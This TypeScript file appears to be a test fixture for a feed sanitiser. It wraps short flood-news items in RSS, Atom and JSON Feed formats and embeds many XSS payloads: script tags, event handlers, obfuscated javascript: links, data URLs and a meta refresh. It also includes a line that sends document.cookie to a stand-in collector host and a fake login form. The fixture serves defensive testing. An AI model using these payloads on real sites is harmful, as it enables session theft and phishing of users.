import { rss, rssItem } from "./hostile-documents.ts";

/** Every way markup can try to run code, around two sentences of real news. */
const scriptedHtml = (lead: string, close: string) => `<p onclick="steal()">${lead}</p>
<script>fetch("https://collector.example/?c=" + document.cookie)</script>
<img src="https://monitor.example/quay.jpg" onerror="steal()" alt="The quay">
<img src=x onerror=alert(1)>
<a href="javascript:alert('map')">flood map</a>
<a href="  JaVaScRiPt&#58;alert('again')">evacuation routes</a>
<a href="&#106;avascript:alert('entity')">shelters</a>
<a href="vbscript:msgbox('old')">old link</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>
<iframe src="https://collector.example/frame">frame fallback</iframe>
<style>body { visibility: hidden }</style>
<object data="https://collector.example/x.swf"></object><embed src="https://collector.example/y.swf">
<form action="https://collector.example/login"><input name="pin">Confirm your account</form>
<svg onload="alert(2)"><text>vector</text></svg>
<meta http-equiv="refresh" content="0;url=javascript:alert(3)">
<base href="javascript:alert(4)//">
<p style="background:url(javascript:alert(5))">${close}</p>`;

/** The lead sentence of the scripted RSS item, which every served format must still carry. */
export const LEAD = "Water rose above the quay walls overnight.";
const cdata = (html: string) => `<![CDATA[${html}]]>`;
const escapeXml = (text: string) => text.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;");

export const scriptedRss = () =>
  rss(
    [
      rssItem({
        guid: "script-1",
        title: cdata(`Floodwaters reach the old town<script>alert("title")</script>`),
        body: cdata(scriptedHtml(LEAD, "Residents of the lower streets were moved to the sports hall.")),
        link: "javascript:alert('link')",
      }),
      // Double-escaped: once XML is decoded the title still reads as markup.
      rssItem({
        guid: "script-2",
        title: "Dyke &amp;lt;img src=x onerror=alert(6)&amp;gt; holds for now",
        body: escapeXml(`<b onmouseover="alert(7)">Engineers</b> kept the pumps running.`),
      }),
    ].join("\n"),
  );

export const scriptedAtom = () => `<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom"><title>River watch</title><id>urn:river</id><updated>${new Date().toISOString()}</updated>
<entry><id>urn:river:1</id><title type="html">${escapeXml(`Levee <iframe src="https://collector.example/"></iframe>breach feared`)}</title>
<link href="javascript:alert('atom')"/><updated>${new Date().toISOString()}</updated>
<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p onclick="steal()">Sandbags ran out at noon.</p><script>alert(8)</script><a href="javascript:alert(9)">pumps</a></div></content></entry>
<entry><id>urn:river:2</id><title>Evacuation buses leave the lower town</title><updated>${new Date().toISOString()}</updated>
<content type="html">${escapeXml(scriptedHtml("Forty buses left the depot before the river crested.", "Drivers were told to use the ring road."))}</content></entry>
</feed>`;

export const scriptedJson = () =>
  JSON.stringify({
    version: "https://jsonfeed.org/version/1.1",
    title: "Delta desk",
    items: [
      {
        id: "delta-1",
        url: "javascript:alert('json')",
        title: "Delta villages cut off <script>alert(10)</script>",
        content_html: scriptedHtml(
          "Boats are the only way into the delta villages since the embankment gave way.",
          "The coast guard dropped drinking water by helicopter.",
        ),
        // The second name is escaped twice: once decoded it still reads as markup.
        authors: [
          { name: `<img src=x onerror=alert(11)>Field reporter` },
          { name: "&lt;script&gt;alert(12)&lt;/script&gt;Desk editor" },
        ],
        date_published: new Date().toISOString(),
      },
    ],
  });
